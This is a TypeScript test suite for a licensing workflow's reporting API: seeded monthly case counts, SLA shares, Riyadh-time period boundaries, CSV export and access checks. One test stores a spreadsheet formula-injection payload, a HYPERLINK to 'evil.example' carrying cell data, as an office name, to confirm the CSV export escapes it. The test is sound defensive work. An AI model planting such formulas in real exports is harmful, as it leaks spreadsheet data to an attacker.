// The published figures, two ways. First from cases that ran through the
// workflow today (filed, reviewed on time or late, corrected or not, issued,
// excluded, rejected, left open), counted exactly. Then against a seeded month
// with known answers: the Riyadh-midnight edges of a period, and days to
// issuance in whole days, need submission and closing times the workflow
// cannot be made to give (it stamps them with the clock), so those cases are
// written into the tables as the workflow would have left them.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { startTestEnv, waitFor, type TestEnv, type Who } from './support/env';
import { call, commercialApplication, healthApplication, submit, waitForApp, waitForStage } from './support/fixtures';
import { toCsv } from '../api/reports/csv';
import { rowsOf } from '../db/client';

let env: TestEnv;

interface Seed {
  id: string;
  office: 'a' | 'b';
  kind: 'commercial' | 'health' | 'professional';
  /** Riyadh local time. */
  submitted: string;
  status: 'in_progress' | 'issued' | 'excluded' | 'rejected';
  reason?: 'incomplete' | 'conditions' | 'unpaid';
  closed?: string;
  corrected?: boolean;
  /** Completed review tasks: decided on time or late. */
  reviews?: ('on_time' | 'late')[];
}

const SEED: Seed[] = [
  { id: 'TRK-20250302-RPA001', office: 'a', kind: 'commercial', submitted: '2025-03-02T10:00', status: 'issued', closed: '2025-03-04T10:00', reviews: ['on_time'] },
  { id: 'TRK-20250305-RPA002', office: 'a', kind: 'health', submitted: '2025-03-05T09:00', status: 'issued', closed: '2025-03-11T09:00', corrected: true, reviews: ['late'] },
  { id: 'TRK-20250306-RPA003', office: 'a', kind: 'commercial', submitted: '2025-03-06T12:00', status: 'excluded', reason: 'incomplete', closed: '2025-03-20T12:00', corrected: true },
  { id: 'TRK-20250320-RPA004', office: 'a', kind: 'commercial', submitted: '2025-03-20T08:00', status: 'in_progress' },
  { id: 'TRK-20250310-RPB001', office: 'b', kind: 'commercial', submitted: '2025-03-10T10:00', status: 'issued', closed: '2025-03-11T10:00', reviews: ['on_time'] },
  { id: 'TRK-20250312-RPB002', office: 'b', kind: 'professional', submitted: '2025-03-12T10:00', status: 'excluded', reason: 'conditions', closed: '2025-03-12T10:05' },
  { id: 'TRK-20250314-RPB003', office: 'b', kind: 'health', submitted: '2025-03-14T10:00', status: 'rejected', closed: '2025-03-18T10:00' },
  // Approved, invoiced, and its fee not paid by the due date.
  { id: 'TRK-20250315-RPB005', office: 'b', kind: 'health', submitted: '2025-03-15T10:00', status: 'excluded', reason: 'unpaid', closed: '2025-03-29T10:00' },
  // Inside the period: 23:30 on March 31st in Riyadh (20:30 UTC).
  { id: 'TRK-20250331-RPB004', office: 'b', kind: 'commercial', submitted: '2025-03-31T23:30', status: 'in_progress' },
  // Outside it by minutes, on either side.
  { id: 'TRK-20250228-RPX001', office: 'a', kind: 'commercial', submitted: '2025-02-28T23:30', status: 'issued', closed: '2025-03-01T10:00' },
  { id: 'TRK-20250401-RPX002', office: 'b', kind: 'commercial', submitted: '2025-04-01T00:30', status: 'issued', closed: '2025-04-02T10:00' },
];

const at = (local: string) => new Date(`${local}:00+03:00`);

/** The correction deadline of the workflow-run cases: short, so an incomplete case is excluded within the test. */
const CORRECTION_DEADLINE_MS = 3_000;
/** A health review's SLA here: seconds, so a late decision is one made after the task went overdue. */
const HEALTH_SLA_SECONDS = 2;

beforeAll(async () => {
  env = await startTestEnv({ timing: { correctionDeadlineMs: CORRECTION_DEADLINE_MS } });
  await env.db.db.execute(sql`update task_slas set working_days = ${HEALTH_SLA_SECONDS / 86_400} where kind = 'health_review'`);
  for (const s of SEED) {
    const office = env.offices[s.office];
    const closed = s.closed ? at(s.closed) : null;
    await env.db.db.execute(sql`
      insert into applications (id, status, stage, exclusion_reason, license_kind, office_id, applicant_national_id, applicant_name,
        applicant_mobile, cr_number, trade_name, isic_code, district, data, submitted_at, updated_at, closed_at)
      values (${s.id}, ${s.status}, ${s.status === 'in_progress' ? 'review' : 'closed'}, ${s.reason ?? null}, ${s.kind}, ${office},
        '1000000008', 'Seeded', '+966500000000', '2250000000', ${`Shop ${s.id}`}, '477101', 'Al-Hofuf', '{}'::jsonb,
        ${at(s.submitted)}, ${closed ?? at(s.submitted)}, ${closed})`);
    if (s.corrected) {
      await env.db.db.execute(sql`insert into application_events (application_id, seq, event, stage, status, at)
        values (${s.id}, 1, 'correction_requested', 'awaiting_correction', 'in_progress', ${at(s.submitted)})`);
    }
    for (const [i, r] of (s.reviews ?? []).entries()) {
      const due = new Date(at(s.submitted).getTime() + 86_400_000);
      const decided = new Date(due.getTime() + (r === 'on_time' ? -3_600_000 : 3_600_000));
      await env.db.db.execute(sql`insert into tasks (id, application_id, kind, required_role, office_id, status, round, created_at, due_at,
          decided_at, decision, license_kind, trade_name, cr_number, seq)
        values (${`${s.id}:technical:${i + 1}`}, ${s.id}, 'technical_review', 'technical_inspector', ${office}, 'completed', ${i + 1},
          ${at(s.submitted)}, ${due}, ${decided}, 'approve', ${s.kind}, 'Seeded', '2250000000', 1)`);
    }
  }
  // An open review task does not count towards SLA compliance yet.
  await env.db.db.execute(sql`insert into tasks (id, application_id, kind, required_role, office_id, status, round, created_at, due_at,
      license_kind, trade_name, cr_number, seq)
    values ('TRK-20250320-RPA004:technical:1', 'TRK-20250320-RPA004', 'technical_review', 'technical_inspector', ${env.offices.a}, 'open', 1,
      now() - interval '30 days', now() - interval '20 days', 'commercial', 'Seeded', '2250000000', 1)`);
});
afterAll(async () => {
  await env?.close();
});

const MARCH = 'from=2025-03-01&to=2025-03-31';

describe('reports on cases the workflow ran', () => {
  /** The Riyadh date `days` from now: the cohort is today's, give or take a Riyadh midnight passing during the test. */
  const riyadhDate = (days: number) => new Date(Date.now() + 3 * 3_600_000 + days * 86_400_000).toISOString().slice(0, 10);
  const PERIOD = () => `from=${riyadhDate(-1)}&to=${riyadhDate(1)}`;
  const REVIEWER: Record<'a' | 'b', Record<'health' | 'technical', Who>> = {
    a: { health: 'health', technical: 'inspector' },
    b: { health: 'healthB', technical: 'inspectorB' },
  };

  async function file(office: 'a' | 'b', body: object): Promise<string> {
    const res = await submit(env.api, body, undefined, office === 'a' ? 'clerk' : 'clerkB');
    expect(res.statusCode, res.body).toBe(201);
    return res.json().id;
  }
  /** The office's own reviewer claims and decides; `late` waits until the task is overdue first. */
  async function review(id: string, office: 'a' | 'b', kind: 'health' | 'technical', decision: object, late = false) {
    const task = `${id}:${kind}:1`;
    if (late) await waitFor(`${task} overdue`, async () => (await call(env.api, 'supervisor', 'GET', `/tasks/${task}`)).json().overdue === true || undefined);
    const who = REVIEWER[office][kind];
    expect((await call(env.api, who, 'POST', `/tasks/${task}/claim`)).statusCode).toBe(200);
    const res = await call(env.api, who, 'POST', `/tasks/${task}/decision`, decision);
    expect(res.statusCode, res.body).toBe(200);
  }
  const approve = { decision: 'approve' };
  const ends = (id: string, status: string) => waitForApp(env.api, id, status, (a) => a.status === status);

  beforeAll(async () => {
    const shop = commercialApplication();
    const [issuedA, healthIssuedA, incompleteA, openA, rejectedB, tooSmallB, issuedB, cancelledA] = [
      await file('a', commercialApplication()),
      await file('a', healthApplication()),
      await file('a', { ...shop, documents: shop.documents.filter((d) => d.type !== 'civil_defense') }),
      await file('a', commercialApplication()),
      await file('b', healthApplication()),
      await file('b', { ...shop, establishment: { ...shop.establishment, crNumber: commercialApplication().establishment.crNumber, areaSqm: 1 } }),
      await file('b', commercialApplication()),
      await file('a', commercialApplication()),
    ];
    for (const id of [issuedA, healthIssuedA, openA, rejectedB, issuedB, cancelledA]) await waitForStage(env.api, id, 'review');
    // Filed in error: an administrator closes it.
    const cancel = await call(env.api, 'admin', 'POST', `/operations/cases/${cancelledA}/repair`, { action: 'cancel', reason: 'filed twice by mistake' });
    expect(cancel.statusCode, cancel.body).toBe(200);
    await review(issuedA, 'a', 'technical', approve);
    await review(healthIssuedA, 'a', 'technical', approve);
    await review(healthIssuedA, 'a', 'health', approve, true);
    await review(rejectedB, 'b', 'health', { decision: 'reject', reasons: ['HYGIENE'] }, true);
    await review(issuedB, 'b', 'technical', approve);
    await Promise.all([
      ends(issuedA, 'issued'),
      ends(healthIssuedA, 'issued'),
      ends(incompleteA, 'excluded'),
      ends(rejectedB, 'rejected'),
      ends(tooSmallB, 'excluded'),
      ends(issuedB, 'issued'),
      ends(cancelledA, 'cancelled'),
    ]);
    expect((await call(env.api, 'supervisor', 'GET', `/applications/${tooSmallB}`)).json().exclusionReason).toBe('conditions');
    expect((await call(env.api, 'supervisor', 'GET', `/applications/${openA}`)).json().status).toBe('in_progress');
  }, 120_000);

  it('counts each case where the workflow left it: in all, per license kind, per office', async () => {
    const r = (await call(env.api, 'auditor', 'GET', `/reports/summary?${PERIOD()}`)).json();
    expect(r.total).toEqual({ received: 8, issued: 3, excludedIncomplete: 1, excludedConditions: 1, excludedUnpaid: 0, rejected: 1, cancelled: 1, open: 1 });
    expect(r.byLicenseKind).toEqual([
      { licenseKind: 'commercial', received: 6, issued: 2, excludedIncomplete: 1, excludedConditions: 1, excludedUnpaid: 0, rejected: 0, cancelled: 1, open: 1 },
      { licenseKind: 'health', received: 2, issued: 1, excludedIncomplete: 0, excludedConditions: 0, excludedUnpaid: 0, rejected: 1, cancelled: 0, open: 0 },
    ]);
    const byOffice = Object.fromEntries(r.byOffice.map((o: { officeId: string }) => [o.officeId, o]));
    expect(byOffice[env.offices.a]).toMatchObject({ received: 5, issued: 2, excludedIncomplete: 1, excludedConditions: 0, rejected: 0, cancelled: 1, open: 1 });
    // Every case is in exactly one outcome: each row's columns add up to what it received.
    for (const row of [r.total, ...r.byLicenseKind, ...r.byOffice]) {
      const { received, issued, excludedIncomplete, excludedConditions, excludedUnpaid, rejected, cancelled, open } = row;
      expect(issued + excludedIncomplete + excludedConditions + excludedUnpaid + rejected + cancelled + open).toBe(received);
    }
    expect(byOffice[env.offices.b]).toMatchObject({ received: 3, issued: 1, excludedIncomplete: 0, excludedConditions: 1, rejected: 1, open: 0 });
  });

  it('measures each office on its reviews and first submissions', async () => {
    const r = (await call(env.api, 'supervisor', 'GET', `/reports/offices?${PERIOD()}`)).json();
    const byOffice = Object.fromEntries(r.offices.map((o: { officeId: string }) => [o.officeId, o]));
    // A: one case of five was asked for a correction; three reviews decided, the health one after its SLA (the cancelled case's was cancelled, not decided).
    expect(byOffice[env.offices.a]).toMatchObject({ received: 5, issued: 2, firstTimeCompleteShare: 0.8, reviewsDecided: 3, slaComplianceShare: 0.667, medianDaysToIssue: 0, p90DaysToIssue: 0 });
    // B: the rejected case's technical review was cancelled, not decided; its health rejection came late.
    expect(byOffice[env.offices.b]).toMatchObject({ received: 3, issued: 1, firstTimeCompleteShare: 1, reviewsDecided: 2, slaComplianceShare: 0.5, medianDaysToIssue: 0, p90DaysToIssue: 0 });
  });
});

describe('reports on a seeded month', () => {
  it("publishes the month's figures: received, issued, excluded by reason (the fee unpaid too), rejected, still open; per kind and office", async () => {
    const res = await call(env.api, 'auditor', 'GET', `/reports/summary?${MARCH}`);
    expect(res.statusCode, res.body).toBe(200);
    const r = res.json();
    expect(r.total).toEqual({ received: 9, issued: 3, excludedIncomplete: 1, excludedConditions: 1, excludedUnpaid: 1, rejected: 1, cancelled: 0, open: 2 });
    expect(r.byLicenseKind).toEqual([
      { licenseKind: 'commercial', received: 5, issued: 2, excludedIncomplete: 1, excludedConditions: 0, excludedUnpaid: 0, rejected: 0, cancelled: 0, open: 2 },
      { licenseKind: 'health', received: 3, issued: 1, excludedIncomplete: 0, excludedConditions: 0, excludedUnpaid: 1, rejected: 1, cancelled: 0, open: 0 },
      { licenseKind: 'professional', received: 1, issued: 0, excludedIncomplete: 0, excludedConditions: 1, excludedUnpaid: 0, rejected: 0, cancelled: 0, open: 0 },
    ]);
    const byOffice = Object.fromEntries(r.byOffice.map((o: { officeId: string }) => [o.officeId, o]));
    expect(byOffice[env.offices.a]).toMatchObject({ received: 4, issued: 2, excludedIncomplete: 1, excludedUnpaid: 0, open: 1 });
    expect(byOffice[env.offices.b]).toMatchObject({ received: 5, issued: 1, excludedConditions: 1, excludedUnpaid: 1, rejected: 1, open: 1 });
  });

  it('shows each office what offices compete on', async () => {
    const r = (await call(env.api, 'supervisor', 'GET', `/reports/offices?${MARCH}`)).json();
    const byOffice = Object.fromEntries(r.offices.map((o: { officeId: string }) => [o.officeId, o]));
    expect(byOffice[env.offices.a]).toMatchObject({
      received: 4,
      issued: 2,
      medianDaysToIssue: 4,
      p90DaysToIssue: 5.6,
      firstTimeCompleteShare: 0.5,
      reviewsDecided: 2,
      slaComplianceShare: 0.5,
      excludedIncomplete: 1,
    });
    expect(byOffice[env.offices.b]).toMatchObject({
      received: 5,
      issued: 1,
      medianDaysToIssue: 1,
      p90DaysToIssue: 1,
      firstTimeCompleteShare: 1,
      reviewsDecided: 1,
      slaComplianceShare: 1,
      excludedConditions: 1,
      excludedUnpaid: 1,
    });
  });

  it('exports each report as CSV', async () => {
    const res = await call(env.api, 'auditor', 'GET', `/reports/offices?${MARCH}&format=csv`);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toContain('tarkhees-offices-2025-03-01-2025-03-31.csv');
    // A byte-order mark first, so that Excel reads the file as UTF-8 and shows Arabic names as Arabic.
    expect(res.body.startsWith('\uFEFF')).toBe(true);
    const lines = res.body.slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      'officeId,officeName,received,issued,excludedIncomplete,excludedConditions,excludedUnpaid,rejected,cancelled,open,medianDaysToIssue,p90DaysToIssue,firstTimeCompleteShare,reviewsDecided,slaComplianceShare',
    );
    expect(lines).toHaveLength(3);
    const summary = await call(env.api, 'auditor', 'GET', `/reports/summary?${MARCH}&format=csv`);
    const rows = summary.body.slice(1).trimEnd().split('\r\n');
    expect(rows[0]).toBe('scope,key,name,received,issued,excludedIncomplete,excludedConditions,excludedUnpaid,rejected,cancelled,open');
    expect(rows[1]).toBe('total,,,9,3,1,1,1,1,0,2');
    expect(rows.filter((l) => l.startsWith('office,'))).toHaveLength(2);
    // A cell with a comma, a quote or a line break is quoted.
    expect(toCsv([{ name: 'Al-Ahsa, "North"', n: 1 }])).toBe('\uFEFFname,n\r\n"Al-Ahsa, ""North""",1\r\n');
  });

  it("neutralises a cell a spreadsheet would run as a formula, such as an office's name", async () => {
    const [{ name }] = (await rowsOf<{ name: string }>(env.db.db, sql`select name from offices where id = ${env.offices.b}`)) as [{ name: string }];
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"مكتب")';
    await env.db.db.execute(sql`update offices set name = ${evil} where id = ${env.offices.b}`);
    try {
      const res = await call(env.api, 'auditor', 'GET', `/reports/offices?${MARCH}&format=csv`);
      const row = res.body.split('\r\n').find((l) => l.startsWith(`${env.offices.b},`))!;
      // Shown as text: an apostrophe first, then the name as it is (quoted, for its quotes and comma).
      expect(row.startsWith(`${env.offices.b},"'=HYPERLINK(""http://evil.example/?""&A1,""مكتب"")",`)).toBe(true);
      for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(toCsv([{ v: `${start}1+1` }]).split('\r\n')[1]).toMatch(/^"?'/);
      // Numbers stay numbers.
      expect(toCsv([{ v: -3 }])).toBe('\uFEFFv\r\n-3\r\n');
    } finally {
      await env.db.db.execute(sql`update offices set name = ${name} where id = ${env.offices.b}`);
    }
  });

  it('answers 400 for a period that is not one, and 403 to office staff', async () => {
    expect((await call(env.api, 'auditor', 'GET', '/reports/summary?from=2025-03-31&to=2025-03-01')).json().field).toBe('querystring/to');
    expect((await call(env.api, 'auditor', 'GET', '/reports/summary?from=March&to=2025-03-01')).json().field).toBe('querystring/from');
    expect((await call(env.api, 'auditor', 'GET', '/reports/summary?to=2025-03-01')).json().field).toBe('querystring/from');
    expect((await call(env.api, 'clerk', 'GET', `/reports/summary?${MARCH}`)).statusCode).toBe(403);
  });
});
